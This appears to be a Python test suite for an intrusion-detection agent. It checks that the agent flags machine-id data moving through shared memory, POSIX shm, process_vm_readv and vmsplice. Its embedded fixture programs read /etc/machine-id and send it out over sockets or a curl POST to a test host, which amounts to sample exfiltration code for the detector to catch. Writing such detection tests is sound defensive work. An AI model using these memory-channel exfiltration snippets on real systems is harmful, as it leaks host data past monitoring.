# SPDX-License-Identifier: GPL-2.0 OR BSD-2-Clause
"""Memory as a channel: a process that can read memory a holder wrote is tainted. Shared mappings
(MAP_SHARED across fork, POSIX shm in /dev/shm) are found by the agent from /proc/PID/maps;
process_vm_readv, vmsplice and tee by syscall hooks."""
import os
import subprocess
import tempfile

from idslib import PYTHON, Agent, POLICY_MACHINE_ID, expect, expect_eq, run_py


def test_shared_anonymous_mapping_across_fork(host):
    """The parent maps shared memory and forks; the child reads the machine-id and writes it
    there; the parent, which never read anything, sends what it finds."""
    code = """
import mmap, os, socket, sys, time
mm = mmap.mmap(-1, 4096)  # MAP_SHARED | MAP_ANONYMOUS
pid = os.fork()
if pid == 0:
    v = open("/etc/machine-id").read().strip().encode()
    mm[:len(v)] = v
    time.sleep(1)  # a helper that lives on (one that exits at once may go unseen: see the doc)
    os._exit(0)
os.waitpid(pid, 0)
time.sleep(0.5)
s = socket.create_connection((sys.argv[1], 9000), timeout=5)
s.sendall(b"cfg=" + mm[:32])
print(pid)
"""
    with Agent(policy_text=POLICY_MACHINE_ID) as agent:
        parent, out = run_py(code, host.addr)
        a = agent.wait_alert(process__pid=parent)
    expect_eq("confirmed", a["confidence"], "confidence of the parent's send")
    expect("-memory->" in (a.get("lineage") or ""), "lineage through memory, got %r" % a.get("lineage"))


def test_posix_shm_mapped_by_an_unrelated_process(host):
    """B maps /dev/shm/NAME and waits; A, another program, maps it, reads the machine-id and
    writes it there; B sends it."""
    name = "/dev/shm/idsentry-test-%d" % os.getpid()
    reader = """
import mmap, os, socket, sys, time
fd = os.open(sys.argv[2], os.O_RDWR | os.O_CREAT, 0o600)
os.ftruncate(fd, 4096)
mm = mmap.mmap(fd, 4096)
open(sys.argv[3], "w").write("mapped")
deadline = time.time() + 15
while mm[0] == 0 and time.time() < deadline:
    time.sleep(0.05)
time.sleep(0.5)
s = socket.create_connection((sys.argv[1], 9000), timeout=5)
s.sendall(b"shm=" + mm[:32])
"""
    writer = """
import mmap, os, sys, time
fd = os.open(sys.argv[1], os.O_RDWR)
mm = mmap.mmap(fd, 4096)
v = open("/etc/machine-id").read().strip().encode()
mm[:len(v)] = v
time.sleep(1)  # it lives on, as an SDK's process would
"""
    ready = tempfile.NamedTemporaryFile(prefix="idsentry-shm-", delete=False).name
    os.unlink(ready)
    try:
        with Agent(policy_text=POLICY_MACHINE_ID) as agent:
            b = subprocess.Popen([PYTHON, "-c", reader, host.addr, name, ready],
                                 stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
            for _ in range(200):
                if os.path.exists(ready):
                    break
                subprocess.run(["sleep", "0.05"])
            run_py(writer, name)
            expect_eq(0, b.wait(30), "the reader's exit status")
            a = agent.wait_alert(process__pid=b.pid)
        expect_eq("confirmed", a["confidence"], "confidence of the reader's send")
    finally:
        for p in (name, ready):
            try:
                os.unlink(p)
            except OSError:
                pass


def test_process_vm_readv_of_a_holder(host):
    """B reads A's memory with process_vm_readv (seen while the syscall hooks are attached)."""
    holder = """
import ctypes, sys, time
v = open("/etc/machine-id").read().strip().encode()
buf = ctypes.create_string_buffer(v, 64)
open(sys.argv[1], "w").write("%d" % ctypes.addressof(buf))
time.sleep(8)
"""
    reader = """
import ctypes, socket, sys
class iovec(ctypes.Structure):
    _fields_ = [("base", ctypes.c_void_p), ("len", ctypes.c_size_t)]
libc = ctypes.CDLL(None, use_errno=True)
pid, addr = int(sys.argv[2]), int(open(sys.argv[3]).read())
local = ctypes.create_string_buffer(64)
liov, riov = iovec(ctypes.addressof(local), 32), iovec(addr, 32)
n = libc.process_vm_readv(pid, ctypes.byref(liov), 1, ctypes.byref(riov), 1, 0)
assert n == 32, ctypes.get_errno()
s = socket.create_connection((sys.argv[1], 9000), timeout=5)
s.sendall(b"peek=" + local.raw[:32])
"""
    where = tempfile.NamedTemporaryFile(prefix="idsentry-vm-", delete=False).name
    os.unlink(where)
    try:
        with Agent(policy_text=POLICY_MACHINE_ID, args=["--hooks", "always"]) as agent:
            a_proc = subprocess.Popen([PYTHON, "-c", holder, where], stdout=subprocess.DEVNULL,
                                      stderr=subprocess.DEVNULL)
            for _ in range(200):
                if os.path.exists(where) and open(where).read():
                    break
                subprocess.run(["sleep", "0.05"])
            b, _ = run_py(reader, host.addr, a_proc.pid, where)
            a_proc.kill()
            a_proc.wait(5)
            a = agent.wait_alert(process__pid=b)
        expect_eq("confirmed", a["confidence"], "confidence of the reader's send")
    finally:
        if os.path.exists(where):
            os.unlink(where)


def test_vmsplice_into_a_pipe(host):
    """The holder moves its buffer into a pipe with vmsplice instead of write; curl reads it."""
    code = r"""
import ctypes, os
class iovec(ctypes.Structure):
    _fields_ = [("base", ctypes.c_void_p), ("len", ctypes.c_size_t)]
libc = ctypes.CDLL(None, use_errno=True)
v = open("/etc/machine-id").read().strip().encode() + b"\n"
buf = ctypes.create_string_buffer(v, len(v))
iov = iovec(ctypes.addressof(buf), len(v))
n = libc.vmsplice(1, ctypes.byref(iov), 1, 0)
# the pipe holds buf's page, not a copy: the interpreter's shutdown would reuse that memory
# before curl reads it, and curl would send whatever it then holds
os._exit(0 if n == len(v) else 3)
"""
    with Agent(policy_text=POLICY_MACHINE_ID) as agent:
        r = subprocess.run(["sh", "-c", "%s -c '%s' | curl -s -o /dev/null --max-time 5 --data-binary @- "
                            "http://%s:8080/vmsplice" % (PYTHON, code.replace("'", "'\\''"), host.addr)],
                           capture_output=True, timeout=30)
        expect_eq(0, r.returncode, "the pipeline's status (%r)" % r.stderr)
        a = agent.wait_alert(process__comm="curl")
    expect_eq("confirmed", a["confidence"], "confidence of curl's send")
